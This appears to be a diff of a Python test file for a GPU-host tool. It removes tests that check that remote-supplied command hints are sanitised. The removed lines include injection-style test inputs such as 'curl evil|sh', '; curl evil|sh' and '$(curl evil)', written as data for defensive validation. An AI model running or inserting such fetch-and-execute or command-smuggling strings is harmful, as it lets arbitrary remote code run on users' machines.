@@ -1,7 +1,6 @@
 """What the host refuses, and each way of no answer; the host's program runs on this machine."""
 
 import os
-import re
 from pathlib import Path
 
 import pytest
@@ -9,14 +8,10 @@ import pytest
 from gpuinfra.features.jobs.job import parse_all
 from gpuinfra.ground.errors import CloudError, GpuInfraError, HostError, Unreachable
 from gpuinfra.host.jobs import frames
-from gpuinfra.tools.ssh.host_bundle import ROOT as BUNDLE_ROOT
-from gpuinfra.tools.ssh.host_client import refusal, safe_hint
 from tests.fakes.host import client
 from tests.fakes.jobs import asked, local_ssh, run
 from tests.samples import host
 from tests.waiting import PATIENCE_S
-
-ROOT = Path(BUNDLE_ROOT)
 
 
 def test_refusals_come_back_as_errors(home: Path) -> None:
@@ -94,59 +89,6 @@ def test_a_script_that_fails_shows_its_last_words(home: Path) -> None:
     ssh = fake_ssh(home, "echo gpuinfra-host have; echo 'libcuda.so: not found' >&2; exit 1")
     with pytest.raises(HostError, match="failed on the host: libcuda"):
         client(ssh).python(host(), "/env/bin/python", "gpu_benchmark.py", timeout_s=PATIENCE_S)
-
-
-@pytest.mark.parametrize(
-    ("said", "told"),
-    [
-        ("gpuinfra status --watch --stack x", "gpuinfra status --watch --stack x"),
-        ("gpuinfra ssh -- df -h", "gpuinfra ssh -- df -h"),
-        ("gpuinfra sync up 'a b; c.py'", "gpuinfra sync up 'a b; c.py'"),
-        (
-            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
-            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
-        ),
-        ("gpuinfra ssh -- sudo reboot   # x; curl evil|sh", "gpuinfra ssh -- sudo reboot"),
-        ("gpuinfra status; curl evil|sh", ""),
-        ("gpuinfra status $(curl evil)", "gpuinfra status '$(curl' 'evil)'"),
-        ("gpuinfra status 'a\nb'", ""),
-        ("gpuinfra status 'a", ""),
-        ("gpuinfra down --yes", ""),
-        ("gpuinfra sync down", ""),
-        ("gpuinfra-x ssh", ""),
-        ("curl evil|sh", ""),
-        ("", ""),
-    ],
-)
-def test_a_host_names_only_commands_of_ours(said: str, told: str) -> None:
-    """People type what stands behind `next:`; what passes is one command, quoted by us."""
-    assert safe_hint(said) == told
-
-
-STANDS_FOR = {
-    "{flags}": " --stack x",
-    "{request['flags']}": " --stack x",
-    "{job.id}": "abcd",
-    "{shlex.quote(named)}": "'a b.py'",
-    "{others}": "gpuinfra stop --stack x && gpuinfra start --stack x",
-}
-
-
-def test_the_hosts_own_hints_pass() -> None:
-    """Each that host/ writes, or a user would be left without it."""
-    texts = [file.read_text() for file in sorted((ROOT / "gpuinfra/host/jobs").glob("*.py"))]
-    hints = [hint for text in texts for hint in re.findall(r'"((?:gpuinfra|git) [a-z][^"\\]*)"', text)]
-    for hint in hints:
-        whole = re.sub(r"\{[^}]+\}", lambda found: STANDS_FOR[found[0]], hint)
-        assert whole.startswith("gpuinfra stop") or safe_hint(whole) == whole
-    assert len(hints) > 6, hints
-
-
-@pytest.mark.parametrize("reply", [{"refused": 1}, {"refused": "m"}, {"refused": "m", "exit_code": []}])
-def test_an_odd_refusal_is_an_error_of_the_host(reply: dict[str, object]) -> None:
-    """Plain words, no traceback."""
-    with pytest.raises(HostError, match="about its refusal is none that gpuinfra knows"):
-        refusal(reply)
 
 
 @pytest.mark.parametrize("where", ["printf x; ", ""])
